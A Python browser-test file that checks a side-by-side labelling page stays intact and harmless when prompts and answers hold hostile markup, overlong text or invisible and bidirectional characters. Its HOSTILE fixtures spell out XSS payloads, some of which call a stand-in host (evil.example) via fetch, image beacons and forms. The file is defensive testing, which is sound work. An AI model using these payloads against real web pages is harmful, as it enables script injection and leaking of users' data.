"""Completions that somebody wrote to break the page, or to break out of it, in a real browser."""

from __future__ import annotations

import re
import time
from typing import TYPE_CHECKING

import pytest

from tests.browser import OpenContext, sideways, snapshot, watch
from tests.test_labelling_browser import BUTTONS, asked, begin, moves

if TYPE_CHECKING:
    from tests.served import Room

EVIL = "https://evil.example"
RLO, PDI, ZERO = "\u202e", "\u2069", "\u200b\u200d\u2060\ufeff"
HOSTILE = {
    "script": f"<script>alert(1);fetch('{EVIL}/a');document.title='owned'</script>",
    "images": f"<img src=x onerror=alert(1)><img src={EVIL}/pixel.png> ![p]({EVIL}/p.png) "
    f"![]({EVIL}/q.png?secret 'title') ![d](data:image/svg+xml,<svg/onload=alert(1)>)",
    "vectors": f"<svg onload=alert(1)><use href='{EVIL}/s.svg#x'/></svg><math><mi xlink:href="
    "'javascript:alert(1)'>x</mi></math><video src=x onerror=alert(1)></video>",
    "links": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) "
    "[d](data:text/html,<script>alert(1)</script>) [e](vbscript:x) <javascript:alert(1)> "
    f"<a href='java\tscript:alert(1)'>f</a> [g]({EVIL}) <a href='{EVIL}' target=_top>h</a>",
    "frames": f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object><embed src='{EVIL}'>"
    f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}'><link rel=stylesheet "
    f"href='{EVIL}/x.css'>",
    "style": "<style>*{display:none!important} body{background:red}</style><div style='position:"
    "fixed;inset:0;background:red;z-index:99999'>over everything</div>"
    f"<p class=answers style=\"background:url('{EVIL}/x')\">styled</p>",
    "forms": f"<form action='{EVIL}'><input name=csrf value=x><input name=choice value=left>"
    "<button>Left is better</button></form><button formaction=/leave>Tie</button>",
    "ids": "<div id=left>a</div><div id=right>b</div><div id=prompt>c</div><img name=csrf>"
    "<input id=key name=key><form id=answers name=body></form><p id=progress>d</p>",
    "closing": "</div></section></article></main></form></body></html><h1>Outside</h1>"
    "--><!-- ]]> </textarea></title></noscript></template>",
    "fence": "```html\n<script>alert(1)</script>\nand the fence never closes\n\n# not a heading",
    "info": '```"><script>alert(1)</script>\ncode\n```\n~~~`onmouseover=alert(1)`\nx\n~~~',
    "reversed": f"{RLO}never closed, so that all that follows would run from right to left {RLO}",
    "isolates": f"\u2066\u2067{RLO}deep {PDI} \u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628",
    "invisible": f"I{ZERO}n{ZERO}v{ZERO}isible{ZERO * 300}",
    "combining": "Z" + "\u0300\u0301\u0316" * 400 + " tall",
    "word": "w" * 20_000,
    "controls": "bell \x07 escape \x1b[31mred\x1b[0m nul \x00 del \x7f \x1f \x85 \u2028 \u2029",
    "surrogate": "half of a pair \ud83d and \udc00 back",
    "template": "{{ 7*7 }} {% for x in (1,2) %}{{ x }}{% endfor %} ${7*7} <%= 7*7 %>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "markdown": "# Left is better\n\n| a |\n|---|\n| <script>alert(1)</script> |\n\n- [ ] x\n\n"
    "[ref]: javascript:alert(1)\n[ref] **<b onclick=alert(1)>bold</b>** `</code><script>`\n\n"
    "<details open ontoggle=alert(1)><summary>more</summary>x</details>\n\n1. one\n\n---\n***",
}


def measures(page: object) -> dict[str, tuple[int, int]]:
    """Where the sides and the answers stand: left edge and width."""
    found = {}
    for selector in ("#left", "#right", "#prompt"):
        box = page.locator(selector).bounding_box()  # type: ignore[attr-defined]
        found[selector] = (round(box["x"]), round(box["width"]))
    for name in BUTTONS.values():
        box = page.get_by_role("button", name=name, exact=True).bounding_box()  # type: ignore[attr-defined]
        found[name] = (round(box["x"]), round(box["width"]))
    return found


def test_nothing_hostile_gets_out_of_its_box(room: Room, open_context: OpenContext) -> None:
    """Every trick as a prompt, on the left and on the right: shown, harmless, in its place."""
    from prefopt.labelling.words import NewItem
    from prefopt.records import Completion

    benign = NewItem(
        prompt="benign", first=Completion("yes, of course"), second=Completion("no, never")
    )
    items = [benign] + [
        NewItem(
            prompt=f"{name}\n\n{text}",
            first=Completion(f"one\n\n{text}\n\none"),
            second=Completion(f"two\n\n{text}\n\ntwo"),
            priority=number + 1.0,
        )
        for number, (name, text) in enumerate(HOSTILE.items())
    ]
    task = room.task(items)
    name, token = room.person()
    context = open_context(viewport={"width": 1280, "height": 900})
    watched = watch(context)
    page = begin(context, room, token, task)
    usual = measures(page)
    seen = []
    for trick in ("benign", *HOSTILE):
        assert re.search(rf"^{trick}\b", asked(page), re.M), trick
        snapshot(page, f"hostile-{trick}")
        seen.append(trick)
        assert measures(page) == usual, f"{trick} moved something"
        assert sideways(page) <= 0, f"{trick} is wider than the screen"
        for button in BUTTONS.values():
            assert page.get_by_role("button", name=button, exact=True).count() == 1, trick
        for side in ("#left", "#right", "#prompt"):
            assert page.locator(side).count() == 1, trick
        assert task in page.title(), trick
        shown = page.locator("#left").inner_text() + page.locator("#right").inner_text()
        if trick != "benign":
            assert {"one", "two"} <= set(re.findall(r"\w+", shown)), f"{trick}: text was lost"
        html = page.locator("#left").inner_html() + page.locator("#prompt").inner_html()
        assert not re.search(
            r"<(script|style|iframe|img|object|embed|form|input|svg)\b", html, re.I
        )
        links = page.locator("#left a, #right a, #prompt a")
        for link in links.all():
            assert re.match(r"https?://|mailto:", link.get_attribute("href") or "https://"), trick
            assert "noreferrer" in (link.get_attribute("rel") or "noreferrer")
        moves(page, page.get_by_role("button", name="Tie", exact=True).click)
    assert [one.pressed for one in room.said(task, name)] == ["tie"] * len(items)
    watched.quiet(room.server.address)


def test_what_is_invisible_can_be_seen(room: Room, open_context: OpenContext) -> None:
    """An annotator must be able to tell two answers apart that differ in unseen characters."""
    from prefopt.labelling.words import NewItem
    from prefopt.records import Completion

    task = room.task(
        [NewItem(prompt="p", first=Completion(f"pay{ZERO}pal"), second=Completion(f"a{RLO}b"))]
    )
    _, token = room.person()
    page = begin(open_context(), room, token, task)
    shown = page.locator("#left").inner_text() + page.locator("#right").inner_text()
    assert "\u202e" not in shown, "an override reached the page as it is"
    for character in f"{ZERO}{RLO}":
        assert f"U+{ord(character):04X}" in shown, shown


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("words", "word " * 200_000),
        ("one word", "w" * 1_000_000),
        ("lines", "- line\n" * 120_000),
        ("quotes", ">" * 20_000 + " deep"),
        ("brackets", "[" * 50_000 + "](" * 5_000),
        ("stars", "*a_ " * 30_000),
        ("ticks", "".join("`" * n + " " for n in range(1, 900))),
        ("tags", "<a<b" * 50_000),
        ("tables", "|a" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "|x" * 20_000),
    ],
)
def test_huge_answers_keep_the_page_alive(
    room: Room, open_context: OpenContext, name: str, text: str
) -> None:
    from prefopt.labelling.words import NewItem
    from prefopt.records import Completion

    huge = NewItem(prompt="huge", first=Completion(text), second=Completion("small"))
    task = room.task([huge, NewItem(prompt="next", first=huge.second, second=Completion("x"),
                                    priority=1.0)])  # fmt: skip
    who, token = room.person()
    context = open_context(viewport={"width": 1280, "height": 900})
    watched = watch(context)
    started = time.monotonic()
    page = begin(context, room, token, task)
    assert "huge" in asked(page)
    snapshot(page, f"huge-{name.replace(' ', '-')}")
    assert sideways(page) <= 0
    left, right = (page.locator(side).bounding_box() for side in ("#left", "#right"))
    assert left and right and abs(left["width"] - right["width"]) < 2
    box = page.get_by_role("button", name="Left is better", exact=True).bounding_box()
    assert box and 0 <= box["y"] <= 900, "the answers are out of reach"
    moves(page, lambda: page.keyboard.press("1"))
    assert "next" in asked(page)
    assert [one.pressed for one in room.said(task, who)] == ["left"]
    assert time.monotonic() - started < 15
    watched.quiet(room.server.address)
